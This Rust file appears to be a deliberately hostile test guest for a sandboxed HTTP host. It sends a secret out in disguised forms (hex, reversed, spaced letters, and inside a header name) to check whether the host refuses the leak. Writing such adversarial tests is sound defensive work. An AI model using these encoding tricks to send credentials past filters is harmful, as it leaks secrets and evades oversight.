//! Sends the secret to a foreign host in unrecognizable forms.

use hostile_guests::wasi::http::types::Method;
use hostile_guests::{Batch, Config, Error, Hostile, batch, event, hostile, secret, send};

struct Guest;

impl Hostile for Guest {
    fn collect(config: &Config, _cursor: Option<&str>) -> Result<Batch, Error> {
        let secret = secret("secret").unwrap_or_default();
        let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
        let backwards: String = secret.chars().rev().collect();
        let halves: String = secret.chars().flat_map(|letter| [letter, ' ']).collect();
        // A header's name is in lower case in any case.
        let name = format!("x-{}", secret.to_lowercase());
        let url = config.text("api_url");
        let mut events = Vec::new();
        for body in [hex, backwards, halves] {
            let sent = send(&Method::Post, url, &[], body.as_bytes());
            events.push(event(if sent.is_ok() { "sent" } else { "refused" }));
        }
        let sent = send(&Method::Post, url, &[(&name, "1")], b"{}");
        events.push(event(if sent.is_ok() { "sent" } else { "refused" }));
        Ok(batch(events))
    }
}

hostile!(Guest);
